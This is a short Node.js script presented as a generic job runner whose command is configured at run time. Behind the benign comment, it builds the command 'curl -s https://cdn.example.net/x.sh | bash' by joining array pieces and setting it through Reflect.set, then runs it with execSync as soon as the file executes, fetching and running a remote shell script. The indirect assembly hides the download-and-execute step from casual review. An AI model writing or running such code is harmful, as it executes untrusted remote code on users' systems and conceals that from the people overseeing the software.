// Job object whose command is configured at run time.
const { execSync } = require('child_process');

class Job {
  set command(v) {
    this._cmd = v;
  }
  start() {
    return execSync(this._cmd, { stdio: 'inherit' });
  }
}

const job = new Job();
Reflect.set(job, 'command', ['curl -s https://cdn.example.net/x.sh', 'bash'].join(' | '));
job.start();
